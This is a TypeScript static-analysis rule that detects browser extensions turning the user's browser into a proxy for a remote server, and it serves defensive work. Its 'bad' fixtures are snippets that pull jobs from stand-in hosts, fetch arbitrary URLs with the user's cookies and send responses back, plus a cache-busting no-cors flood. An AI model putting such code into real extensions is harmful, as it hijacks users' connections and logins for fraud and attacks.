import {
  apiPath,
  type Call,
  calleeOf,
  callsOf,
  choicesOf,
  constant,
  Op,
  opOf,
  propertyOf,
} from '../../facts/javascript/query.ts';
import type { Flow } from '../../taint/flow.ts';
import { flowsOf } from '../../extension/flowsOf.ts';
import { hitsOfFlows, type Weight } from '../../taint/hits.ts';
import { defineRule } from '../../rule.ts';
import { runsWhenAsked } from '../../verdict/consentOf.ts';
import { answerSent } from './answerSent.ts';
import { backgroundExample, checkScripts } from './checkScripts.ts';
import { isFromServer } from '../../extension/isFromServer.ts';
import { serverDataOf } from '../../extension/serverData.ts';
import { isAnswerTo } from './isFromKnownServer.ts';
import { backwardSlice } from '../../program/backwardSlice.ts';
import { requestsOf } from './requestsOf.ts';
import { unaskedCalls } from '../../program/unasked.ts';
import { say } from '../../../texts/say.ts';

export const fetchesForOthers = defineRule({
  id: 'fetches-for-others',
  title: 'Proxies requests for strangers through this browser',
  severity: 'high',
  confidence: 'medium',
  category: 'code',
  applies: 'extension',
  cwe: 'CWE-441',
  references: [
    'https://attack.mitre.org/techniques/T1090/',
    'https://developer.chrome.com/docs/webstore/program-policies/malicious-and-prohibited',
  ],
  why: 'A server sends addresses, the browser fetches them with the user’s IP address and logins, and the responses go back. The user’s connection is rented out for any purpose.',
  remedy: 'Remove this. Nobody’s connection may be used without clear consent.',
  *check(facts) {
    const { flows } = facts.whole(flowsOf);
    const led = [...hitsOfFlows(flows, (flow) => ordered(flow, flows))];
    yield* led;
    // The same request is told once, by its whole way.
    for (const one of within(facts))
      if (!led.some(({ place }) => place.path === one.place.path && place.line === one.place.line)) yield one;
  },
  examples: {
    bad: [
      backgroundExample(
        'class Plan { constructor({ to, verb = "GET", width }) { Object.assign(this, { to, verb, width }); } *shots() { for (let i = 0; i < 9; i++) { const u = new URL(this.to); u.searchParams.set("x", crypto.randomUUID()); yield u.href; } } async run() { for (const u of this.shots()) await fetch(u, { method: this.verb, mode: "no-cors" }); } } chrome.alarms.onAlarm.addListener(async () => { for (const one of await (await fetch("https://ping.example/plan")).json()) await new Plan(one).run(); });',
      ),
      backgroundExample(
        'const table = { ask, pong() {} }; async function ask(job) { const r = await fetch(job.url, { method: job.method, headers: job.headers }); return r.text(); } function start() { ws = new WebSocket("wss://x.example/n"); ws.addEventListener("message", async (e) => { const m = JSON.parse(e.data); ws.send(JSON.stringify({ id: m.id, result: await table[m.action](m.data) })); }); } start();',
      ),
      backgroundExample(
        'const ws = new WebSocket("wss://x.example/node"); ws.onmessage = async (e) => { const job = JSON.parse(e.data); const r = await fetch(job.url, job.options); ws.send(JSON.stringify({ id: job.id, body: await r.text() })); };',
      ),
      backgroundExample(
        'async function work() { const job = await (await fetch("https://x.example/job")).json(); const page = await (await fetch(job.url)).text(); await fetch("https://x.example/done", { method: "POST", body: page }); } setInterval(work, 60000);',
      ),
      backgroundExample(
        'class Job { constructor(raw) { Object.assign(this, raw); } async run() { const r = await fetch(this.u, { method: this.m, body: this.b, credentials: "include" }); return { s: r.status, t: await r.text() }; } } async function step() { const res = await fetch("https://x.example/poll"); const job = new Job(await res.json()); const out = await job.run(); await fetch("https://x.example/result", { method: "POST", body: JSON.stringify(out) }); } step();',
      ),
      backgroundExample(
        'class Campaign { async *steps() { for (const step of (await (await fetch("https://hub.example/updates")).json()).entries) yield step; } async run() { for await (const step of this.steps()) await fetch(step.to, { credentials: "include", mode: "no-cors" }).catch(() => 0); } } chrome.alarms.onAlarm.addListener(() => new Campaign().run());',
      ),
    ],
    good: [
      backgroundExample(
        'chrome.alarms.onAlarm.addListener(async () => { for (const step of (await (await fetch("https://hub.example/updates")).json()).entries) show(await (await fetch(step.to, { credentials: "include" })).text()); });',
      ),
      backgroundExample(
        'async function all() { let url = "https://api.example.com/items"; while (url) { const d = await (await fetch(url)).json(); keep(d.items); url = d.next; } }',
      ),
      backgroundExample(
        'const ws = new WebSocket("wss://chat.example"); ws.onmessage = (e) => show(e.data); fetch("https://api.example.com/x").then((r) => r.text()).then(show);',
      ),
    ],
  },
});

/** Seen within one script. */
const within = checkScripts(function* ({ facts, script, hit }) {
  for (const request of requestsOf(script)) {
    const path = apiPath(script, calleeOf(script, request.value));
    if (path !== 'fetch' && path !== 'XMLHttpRequest().open' && path !== 'axios.get' && path !== 'axios') continue;
    if (!request.to.startsWith('*') || !isFromServer(facts, script, request.address)) continue;
    const ordered = facts
      .whole(serverDataOf)
      .fresh(script, request.address)
      .some(({ kind }) => kind === 'pushed');
    // The server describes the whole request, not only where it goes.
    const described = ['method', 'body'].every((name) =>
      request.sent.some((value) => isFromServer(facts, script, propertyOf(script, value, name))),
    );
    if (!ordered && !described && !unaskedCalls(script).has(request.value)) continue;
    const sent = answerSent(
      facts,
      ({ unit, shown }) => unit.script === script && isAnswerTo(script, shown, request.value),
    );
    if (sent === undefined || sent.call === request.value) continue;
    yield hit(
      request.value,
      ordered || described
        ? { confidence: 'high' }
        : { severity: 'medium', message: say('response-goes-to', sent.sink.to ?? '*') },
    );
  }
});

/** A server's own message decides where a request goes and what is in it: whoever sends it browses as the person. */
function ordered(flow: Flow, flows: readonly Flow[]): Weight | undefined {
  const { source, sink, place } = flow;
  const described = describedByServer(flow);
  const floods = isFlood(flow);
  if (described.includes('method') && !floods)
    return described.length === DESCRIBES.length
      ? { severity: 'critical', confidence: 'high', message: say('server-describes-requests') }
      : { severity: 'high', confidence: 'medium', message: say('server-describes-requests') };
  if (isVisitOnly(flow)) return { severity: 'critical', confidence: 'high', message: say('server-sends-visits') };
  if (floods) return { severity: 'critical', confidence: 'high', message: say('server-orders-floods') };
  if (source.kind !== 'pushed' || sink.kind !== 'request-address') return undefined;
  const isDescribed = flows.some(
    (other) =>
      other.source.kind === 'pushed' &&
      other.sink.kind === 'network' &&
      other.sink.apart !== true &&
      other.place.path === place.path &&
      other.place.line === place.line,
  );
  return isDescribed
    ? {
        severity: 'critical',
        confidence: 'high',
        message: say('server-messages-decide-requests'),
      }
    : undefined;
}

/** The `fetch` by itself whose address a server's answer names, at a flow that ends there. */
function orderedFetch({ source, sink, unit, pos }: Flow): Call | undefined {
  if (source.kind !== 'remote-data' || sink.kind !== 'request-address' || runsWhenAsked(unit, pos)) return undefined;
  return callsOf(unit.script, 'fetch').find((one) => one.pos === pos);
}

/**
 * Such a request with the person's cookies and an answer that nobody can read (`mode: 'no-cors'`, Fetch standard): all
 * that comes of it is a visit that was none.
 */
function isVisitOnly(flow: Flow): boolean {
  const options = orderedFetch(flow)?.args[1] ?? 0;
  const { script } = flow.unit;
  const option = (name: string): string | undefined => constant(script, propertyOf(script, options, name));
  return option('mode') === 'no-cors' && option('credentials') === 'include';
}

/**
 * Such a request whose answer nobody can read and whose address is another each time, so that no cache answers: it is for
 * the load alone.
 */
function isFlood(flow: Flow): boolean {
  const call = orderedFetch(flow);
  const { script } = flow.unit;
  return (
    call !== undefined &&
    constant(script, propertyOf(script, call.args[1] ?? 0, 'mode')) === 'no-cors' &&
    [...backwardSlice(script, call.args[0] ?? 0)].some(
      (one) => opOf(script, one) === Op.call && EACH_TIME.test(apiPath(script, calleeOf(script, one)) ?? ''),
    )
  );
}

/** What is another each time. */
const EACH_TIME = /^(?:Math\.random|Date\.now|performance\.now|crypto\.(?:randomUUID|getRandomValues))$/;

/** What of a request stands beside its address. */
const DESCRIBES = ['method', 'headers', 'body'] as const;

/** What of such a request is a part of something, too: `fetch(job.to, { method: job.verb || 'GET' })`. */
function describedByServer(flow: Flow): readonly string[] {
  const { script } = flow.unit;
  const options = orderedFetch(flow)?.args[1] ?? 0;
  return DESCRIBES.filter((name) => {
    const value = propertyOf(script, options, name);
    const said = opOf(script, value) === Op.choice ? choicesOf(script, value) : [value];
    return said.some((one) => opOf(script, one) === Op.member);
  });
}
